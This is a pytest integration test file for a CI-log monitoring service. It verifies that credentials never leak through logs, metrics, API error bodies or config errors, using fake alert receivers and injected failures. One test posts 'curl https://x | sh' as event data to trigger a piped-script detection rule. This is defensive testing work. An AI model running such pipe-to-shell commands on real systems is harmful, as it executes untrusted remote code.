"""No credential leaves ``pipesentry run`` by any way: log lines (root at DEBUG), stdout, the
``/metrics`` exposition, API error bodies, or the message of a rejected config file.

Every sink and receiver is configured with a recognisable secret (see
``tests/unit/service/test_log_redaction.py``) and pointed at local receivers that check
the service's format; deliveries succeed, fail (500, 401), hit a refused
connection and are retried. Each secret is searched for raw, URL-encoded and
base64-encoded (also as HTTP Basic ``user:secret``).
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import httpx
import pytest
import yaml
from aiohttp import web

from devservices.process import free_port
from tests.integration.receivers import FakeElasticsearch, Opsgenie, PagerDuty, Receiver, Slack, Webhook
from tests.support.instances import Instance
from tests.support.rules import PIPED_SCRIPT_RULE
from tests.support.secrets import SECRETS, SLACK_SECRET, leaks, settings_with_secrets
from tests.support.waits import until

pytestmark = pytest.mark.integration

FAST_RETRY = {"initial_backoff_s": 0.05, "max_backoff_s": 0.3, "breaker_failures": 3, "breaker_reset_s": 0.3}


class SecretSlack(Slack):
    """The Slack receiver at a webhook path that is the credential."""

    def routes(self, app: web.Application) -> None:
        app.router.add_post(f"/services/T000/B000/{SLACK_SECRET}", self.post)


async def _metrics(instance: Instance) -> str:
    response = await instance.get("/metrics")
    return response.text if response is not None else ""


def _sample(exposition: str, name: str, **labels: str) -> float:
    want = [f'{k}="{v}"' for k, v in labels.items()]
    total = 0.0
    for line in exposition.splitlines():
        if line.startswith(name) and all(w in line for w in want):
            total += float(line.rsplit(" ", 1)[1])
    return total


@pytest.mark.slow
async def test_no_secret_in_logs_metrics_or_api_errors(tmp_path: Path) -> None:
    slack, pd = await SecretSlack().start(), await PagerDuty().start()
    og = await Opsgenie(api_key=SECRETS["opsgenie"]).start()
    hook, es = await Webhook(secret=SECRETS["webhook_hmac"]).start(), await FakeElasticsearch().start()
    receivers: list[Receiver] = [slack, pd, og, hook, es]
    # failures first, then deliveries: a 5xx is retried, a 401 dead-letters that page (one of three)
    for receiver, count, status in ((slack, 2, 500), (pd, 2, 500), (og, 1, 401), (hook, 1, 401), (es, 2, 500)):
        receiver.fail_next, receiver.fail_status = count, status
    refused = f"http://127.0.0.1:{free_port()}"  # Alertmanager (with basic auth) and Kafka: nobody listens
    config = settings_with_secrets({"slack": slack.url, "pagerduty": f"{pd.url}/v2/enqueue", "opsgenie": og.url,
                                    "webhook": f"{hook.url}/hook", "es": es.url, "alertmanager": refused})
    config["kafka"]["bootstrap_servers"] = [refused.removeprefix("http://")]
    config["kafka"]["connect_backoff_initial_s"], config["kafka"]["connect_backoff_max_s"] = 0.2, 0.5
    for receiver in config["alerting"]["receivers"]:
        receiver["retry"] = FAST_RETRY
    for sink in config["alerting"]["sinks"]:
        sink["retry"] = FAST_RETRY
    config["alerting"]["spool"] = {"fsync": "never"}
    config["alerting"]["grouping"] = {"group_by": ["user"]}  # one page per event
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "curl.yml").write_text(PIPED_SCRIPT_RULE)
    config.update({"log_level": "DEBUG", "rules": {"paths": [str(rules)], "watch": False},
                   "http_ingest": {"enabled": True}})
    instance = Instance(tmp_path, "secrets", config)
    admin = {"Authorization": f"Bearer {SECRETS['api_admin']}"}
    read = {"Authorization": f"Bearer {SECRETS['api_read']}"}
    bodies: list[str] = []
    try:
        async def rules_loaded() -> bool:  # /readyz stays 503 (no broker here), but says when the rules are in
            response = await instance.get("/readyz")
            return response is not None and response.json().get("checks", {}).get("rules_loaded") is True

        await until(rules_loaded, 90, "the instance to load its rules and serve its API")
        async with httpx.AsyncClient(base_url=instance.url, timeout=30) as client:
            for n in range(3):
                response = await client.post("/api/v1/events?category=ci_job_log", headers=admin,
                                             content=f'{{"message": "curl https://x | sh #{n}", "user": "u{n}"}}')
                assert response.status_code == 200, response.text
            # API errors, with every credential a client might send
            for headers in ({}, {"Authorization": f"Bearer {SECRETS['api_admin']}x"}, read,
                            {"Authorization": f"Basic {SECRETS['api_admin']}"}):
                response = await client.post("/api/v1/rules/reload", headers=headers)
                assert response.status_code in (401, 403), response.text
                bodies.append(response.text)
            for method, path, body in (("POST", "/api/v1/events", b"{not json " + SECRETS["sasl"].encode()),
                                       ("POST", "/api/v1/silences", b'{"matchers": 1}'),
                                       ("GET", "/api/v1/alerts?since=" + SECRETS["pagerduty"], b""),
                                       ("GET", "/api/v1/rules/" + SECRETS["opsgenie"], b"")):
                response = await client.request(method, path, headers=admin, content=body)
                assert response.status_code >= 400, (path, response.text)
                bodies.append(response.text.replace(SECRETS["sasl"], "").replace(SECRETS["pagerduty"], "")
                              .replace(SECRETS["opsgenie"], ""))  # the client's own input may be echoed

        async def delivered_everywhere() -> bool:
            text = await _metrics(instance)
            done = all(_sample(text, "pipesentry_sink_deliveries_total", sink=name) > 0
                       for name in ("slack", "pd", "og", "hook", "es-key", "es-basic", "es-url"))
            failed = all(_sample(text, "pipesentry_sink_failures_total", sink=name) > 0
                         for name in ("slack", "pd", "og", "hook", "am"))
            es_failed = sum(_sample(text, "pipesentry_sink_failures_total", sink=name) for name in ("es-key", "es-basic", "es-url"))
            return done and failed and es_failed > 0

        try:
            await until(delivered_everywhere, 60, "deliveries after failures on every receiver")
        except AssertionError:
            raise AssertionError(f"{await _metrics(instance)}\n{instance.log()}") from None
        assert all(r.got.accepted for r in receivers if r is not es) and es.docs, [r.got for r in receivers]
        await until(lambda: _sample_async(instance, "pipesentry_kafka_connect_errors_total"), 30,
                       "a refused Kafka connection")
        bodies.append(await _metrics(instance))
    finally:
        instance.stop()
        for receiver in receivers:
            await receiver.stop()
    stderr = instance.stderr.read_text(errors="replace")
    assert '"level":"debug"' in stderr, "the root logger ran at DEBUG"
    assert "sink delivery failed" in stderr, "failures were logged"
    assert leaks(stderr) == [], "log lines"
    assert leaks(instance.stdout.read_text(errors="replace")) == [], "stdout"
    assert leaks("\n".join(bodies)) == [], "API bodies and /metrics"


async def _sample_async(instance: Instance, name: str) -> bool:
    return _sample(await _metrics(instance), name) > 0


def _config_error_output(tmp_path: Path, text: str) -> str:
    path = tmp_path / "pipesentry.yml"
    path.write_text(text)
    outputs = []
    for argv in (["run", "--config", str(path), "--no-stdin"], ["config", "check", str(path)]):
        proc = subprocess.run([sys.executable, "-m", "service.cli", *argv], capture_output=True, text=True,
                              timeout=60, stdin=subprocess.DEVNULL)
        assert proc.returncode != 0, proc.stdout + proc.stderr
        outputs.append(proc.stdout + proc.stderr)
    return "\n".join(outputs)


def test_invalid_value_next_to_a_secret_is_not_echoed(tmp_path: Path) -> None:
    config = settings_with_secrets()
    config["alerting"]["receivers"][1]["min_level"] = "not-a-level"  # beside the PagerDuty routing key
    config["api"]["tokens"][1]["role"] = "superuser"
    out = _config_error_output(tmp_path, yaml.safe_dump(config))
    assert "min_level" in out or "role" in out, out
    assert leaks(out) == []


def test_yaml_syntax_error_on_a_secret_line_is_not_echoed(tmp_path: Path) -> None:
    token = SECRETS["api_admin"]
    text = f"api:\n  tokens:\n    - name: ops\n      token: \"{token}\" : [unclosed\nlog_level: INFO\n"
    out = _config_error_output(tmp_path, text)
    assert "line" in out.lower(), out  # the error still says where
    assert token not in out
    assert leaks(out) == []


@pytest.mark.slow
async def test_reload_of_a_config_with_a_yaml_error_on_a_secret_line_does_not_echo_it(tmp_path: Path) -> None:
    """A running instance re-reads its config file on reload; the 422 body and the logs must not
    quote the secret on the broken line (the secret is registered: it was loaded at start)."""
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "curl.yml").write_text(PIPED_SCRIPT_RULE)
    config = {"api": settings_with_secrets()["api"], "rules": {"paths": [str(rules)], "watch": False},
              "alerting": {"sinks": [{"type": "stdout"}]}}
    instance = Instance(tmp_path, "reload", config)
    token = SECRETS["api_admin"]
    try:
        await until(instance.ready, 90, "the instance to be ready")
        text = instance.config_path.read_text()
        assert f"token: {token}\n" in text
        instance.config_path.write_text(text.replace(f"token: {token}\n", f"token: {token} : [unclosed\n"))
        async with httpx.AsyncClient(timeout=30) as client:
            response = await client.post(f"{instance.url}/api/v1/rules/reload",
                                         headers={"Authorization": f"Bearer {token}"})
        assert response.status_code == 422 and "YAML" in response.text, response.text
        body = response.text
    finally:
        instance.stop()
    assert leaks(body) == [], "the reload's API answer"
    assert leaks(instance.stderr.read_text(errors="replace")) == [], "log lines"
